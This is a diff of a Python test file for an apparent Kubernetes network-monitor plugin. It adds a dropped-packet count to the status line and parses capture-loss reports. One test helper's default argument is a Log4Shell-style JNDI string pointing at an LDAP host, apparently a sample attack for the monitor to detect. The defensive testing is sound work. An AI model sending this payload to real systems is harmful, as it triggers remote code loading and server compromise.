@@ -39,7 +39,7 @@ def attempt(sub: str = "uri='/?q=${jndi:ldap://10.244.2.2:1389/a}'") -> Notice:
 
 def view(open_conns: list[Conn] = (), out: io.StringIO | None = None) -> LiveView:
     return LiveView(out or io.StringIO(), pods(), lambda: list(open_conns),
-                    lambda: Status(packets=42, duplicates=7, streams_open=2, streams=3,
+                    lambda: Status(packets=42, duplicates=7, drops=3, streams_open=2, streams=3,
                                    elapsed_s=75))
 
 
@@ -63,10 +63,10 @@ def test_flows_are_shown_busiest_first_with_pod_names_open_and_finished():
                                              ["Copen", "demo/attacker", "demo/web:8080"]]
 
 
-def test_the_status_line_counts_packets_duplicates_streams_and_time():
+def test_the_status_line_counts_packets_duplicates_drops_streams_and_time():
     last = view().frame(200, 40)[-1]
 
-    assert last == "42 packets, 7 duplicates dropped, 2/3 streams, 01:15 elapsed"
+    assert last == "42 packets, 7 duplicates, 3 lost, 2/3 streams, 01:15 elapsed"
 
 
 def test_payload_text_and_pod_names_reach_the_terminal_escaped():
@@ -110,4 +110,16 @@ def test_the_capture_status_line_prints_alerts_above_it():
 
     text = out.getvalue()
     assert "ALERT " in text and "attacker demo/attacker" in text
-    assert text.rstrip("\n").endswith("5 packets, 0 duplicates dropped, 0/0 streams, 00:00 elapsed")
+    assert text.rstrip("\n").endswith("5 packets, 0 duplicates, 0 lost, 0/0 streams, 00:00 elapsed")
+
+
+def test_packets_the_remote_captures_lost_are_counted_from_their_last_words():
+    from kubectl_netmon.cli.kubeflags import KubeFlags
+    from kubectl_netmon.liverun import LiveOptions, LiveRun
+
+    run = LiveRun(KubeFlags(), LiveOptions(), lambda line: None)
+    for point, lost in (("demo/web", 3), ("demo/ldap", 4)):
+        run._status(f"{point}: Packets received/dropped on interface 'eth0': 118/{lost} "
+                    "(pcap:0/dumpcap:0/flushed:0/ps_ifdrop:0) (97.5%)")
+
+    assert run.status().drops == 7
